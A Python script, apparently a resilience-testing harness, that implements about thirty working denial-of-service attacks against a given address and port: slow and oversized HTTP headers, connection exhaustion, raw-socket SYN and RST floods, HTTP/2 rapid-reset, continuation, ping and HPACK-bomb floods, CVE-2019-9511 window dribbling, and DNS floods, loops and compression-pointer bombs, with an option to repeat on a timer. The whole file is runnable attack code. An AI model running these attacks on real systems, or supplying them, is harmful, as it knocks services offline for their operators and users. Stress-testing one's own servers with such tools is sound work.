"""What hostile clients do: `peers.py KIND ADDRESS PORT COUNT [SECONDS]`. Says "at work" when it is, and goes
on until it is ended; where seconds are given it lets go of everything and begins anew each time they are over."""

import signal, socket, struct, sys, time

kind, address, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(small=False):
    s = socket.socket()
    s.settimeout(20)
    if small:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.connect((address, port))
    return s


def hold(*what):
    print("at work", flush=True)
    while True:
        time.sleep(3600)


def slow_heads():
    """Heads that begin and never end."""
    open_ones = [connect() for _ in range(count)]
    for s in open_ones:
        s.sendall(b"GET /get HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    hold(open_ones)


def long_heads():
    """More fields than anybody needs, then more bytes."""
    for _ in range(count):
        for head in (b"X-A: b\r\n" * 500, b"X-A: " + b"b" * 200000):
            s = connect()
            try:
                s.sendall(b"GET /get HTTP/1.1\r\nHost: x\r\n" + head + b"\r\n")
                s.recv(1000)
            except OSError:
                pass
            s.close()
    hold()


def unread():
    """Answers that are asked for and not read."""
    open_ones = [connect(small=True) for _ in range(count)]
    for s in open_ones:
        s.sendall(b"GET /big HTTP/1.1\r\nHost: x\r\n\r\n" * 4)
    hold(open_ones)


def sips():
    """Answers that are read byte by byte: the window closes and opens."""
    open_ones = [connect(small=True) for _ in range(count)]
    for s in open_ones:
        s.sendall(b"GET /big HTTP/1.1\r\nHost: x\r\n\r\n")
    print("at work", flush=True)
    while True:
        for s in open_ones:
            s.recv(1)


def bytewise():
    """Requests in segments of one byte."""
    answered = 0
    for _ in range(count):
        s = connect()
        for byte in b"GET /get HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n":
            s.send(bytes([byte]))
        answer = s.recv(100)
        answered += answer.startswith(b"HTTP/1.1 200")
        s.close()
    print(answered, "answered", flush=True)
    hold()


def resets():
    """Connections that are reset in the middle of a request."""
    for number in range(count):
        s = connect()
        s.sendall(b"GET /get HTTP/1.1\r\nHost: x\r\n" + (b"\r\n" if number % 2 else b""))
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.close()
    hold()


def connections():
    """More connections than one endpoint may have."""
    open_ones = []
    for _ in range(count):
        try:
            s = connect()
            s.sendall(b"GET /get HTTP/1.1\r\nHost: x\r\n")
            open_ones.append(s)
        except OSError:
            pass
    hold(open_ones)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segments(flags, ports):
    """As many segments that belong to no connection: the ports of the n-th are `ports(n)`."""
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.connect((address, 9))
    ends = socket.inet_aton(own.getsockname()[0]) + socket.inet_aton(address)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    for number in range(count):
        head = [*ports(number), number, 0, 5 << 4, flags, 1024, 0, 0]
        pseudo = ends + struct.pack("!BBH", 0, 6, 20)
        head[7] = checksum(pseudo + struct.pack("!HHIIBBHHH", *head))
        s.sendto(struct.pack("!HHIIBBHHH", *head), (address, 0))
    hold()


def half_open():
    """SYNs to as many ports, of connections that nobody completes."""
    segments(2, lambda number: (40000 + number % 20000, 1 + number % 60000))


def syns():
    """The same to one port that is open."""
    segments(2, lambda number: (1024 + number % 60000, port))


def rsts():
    """Resets of connections that never were, at a port that is open."""
    segments(4, lambda number: (1024 + number % 60000, port))


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def text(value):
    return bytes([len(value)]) + value


HEAD = b"\x82\x86\x44" + text(b"/get") + b"\x41" + text(b"x")
BIG = HEAD.replace(text(b"/get"), text(b"/big"))
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9


def http2(frames, settings=b""):
    """Says frames on a connection until it is ended."""
    s = connect()
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    try:
        s.sendall(frames)
        while s.recv(65536):
            pass
    except OSError:
        pass
    s.close()


def http2_resets():
    asked = range(1, 2 * count, 2)
    http2(b"".join(frame(HEADERS, 4, n, HEAD) + frame(RST, 0, n, b"\0\0\0\x08") for n in asked))


def http2_pings():
    http2(frame(PING, 0, 0, bytes(8)) * count)


def http2_settings():
    http2(frame(SETTINGS, 0, 0) * count)


def http2_empty():
    http2(frame(HEADERS, 4, 1, HEAD) + frame(DATA, 0, 1) * count)


def http2_continuation():
    http2(frame(HEADERS, 0, 1, HEAD) + frame(CONTINUATION, 0, 1) * count)


def http2_windows():
    http2(frame(HEADERS, 4, 1, HEAD) + frame(WINDOW, 0, 0, b"\0\0\0\1") * count)


def http2_priority():
    http2(frame(PRIORITY, 0, 3, b"\0\0\0\0\x10") * count)


def http2_bomb():
    # One long field that goes into the table, and its number again and again.
    field = b"\x40" + text(b"a") + b"\x7f" + bytes([0x80 | (3800 - 127) % 128, (3800 - 127) // 128]) + b"b" * 3800
    http2(frame(HEADERS, 4, 1, HEAD + field + b"\xbe" * count))


def ask_big(window):
    """Asks for something large over so many streams, each with this window."""
    s = connect(small=True)
    asked = b"".join(frame(HEADERS, 5, n, BIG) for n in range(1, 2 * count, 2))
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, window)) + asked)
    return s


def http2_unread():
    """Streams that may not be answered: the client's window is closed."""
    hold(ask_big(0))


def http2_dribble():
    """Windows that open by one byte at a time (CVE-2019-9511)."""
    s = ask_big(0)
    opened = b"".join(frame(WINDOW, 0, n, b"\0\0\0\1") for n in range(1, 2 * count, 2))
    s.sendall(frame(WINDOW, 0, 0, b"\x10\0\0\0"))
    print("at work", flush=True)
    while True:
        s.sendall(opened)
        s.recv(65536)


def query(number, name, flags=256, questions=1):
    return struct.pack("!6H", number % 65536, flags, questions, 0, 0, 0) + name + b"\0\1\0\1"


def name(*labels):
    return b"".join(text(label) for label in labels) + b"\0"


def datagrams(each):
    """As many datagrams; says how many were answered."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in range(count):
        s.sendto(each(number), (address, port))
    s.settimeout(1)
    heard = 0
    try:
        while s.recv(65536):
            heard += 1
    except OSError:
        pass
    print(heard, "heard", flush=True)
    hold()


def lookups():
    """Look-ups of ever new names, faster than they are answered."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in range(count):
        s.sendto(query(number, name(b"n%d" % number, b"flood")), (address, port))
    hold()


def dns_loop():
    """Answers sent as if they were queries: who answers those answers for ever."""
    datagrams(lambda number: query(number, name(b"loop"), flags=0x8180))


def dns_pointers():
    """Names that lead back to themselves, and names that are a chain of many pointers."""
    def record(owner, data=b""):
        return owner + struct.pack("!HHIH", 65280, 1, 0, len(data)) + data

    first = 12 + len(name(b"n", b"flood")) + 4 + 11
    chain = [12] + [first + 2 * n for n in range(200)]
    pointers = [struct.pack("!H", 0xC000 | place) for place in chain]
    long = query(0, name(b"n", b"flood")) + record(b"\0", b"".join(pointers[:-1])) + record(pointers[-1])
    long = long[:10] + b"\0\2" + long[12:]
    itself = query(0, b"\xc0\x0c")
    datagrams(lambda number: itself if number % 2 else long)


def dns_oversize():
    """Datagrams as large as there are, and counts of entries that are not there."""
    plain = name(b"n", b"flood")
    datagrams(lambda number: query(number, plain, questions=65535) if number % 2 else query(number, plain) + bytes(60000))


def dns_slow():
    """Over TCP: lengths that come byte by byte, of messages that never do."""
    open_ones = [connect() for _ in range(count)]
    for s in open_ones:
        s.sendall(b"\0")
    print("at work", flush=True)
    time.sleep(0.3)
    for s in open_ones:
        s.sendall(b"\x20")
    hold(open_ones)


def dns_unread():
    """Over TCP: queries that are refused, and refusals that nobody reads."""
    s = connect(small=True)
    message = query(1, name(b"secret", b"denied"))
    s.settimeout(3)
    sent = 0
    try:
        for _ in range(count):
            s.sendall((struct.pack("!H", len(message)) + message) * 100)
            sent += 100
    except OSError:
        pass
    print(sent, "sent", flush=True)
    hold(s)


class Over(Exception):
    """The time of an attack is."""


def end(_signal, _frame):
    raise Over


def attack():
    globals()[kind]()
    hold()


if len(sys.argv) > 5:
    signal.signal(signal.SIGALRM, end)
    while True:
        signal.alarm(int(sys.argv[5]))
        try:
            attack()
        except Over:
            pass
attack()
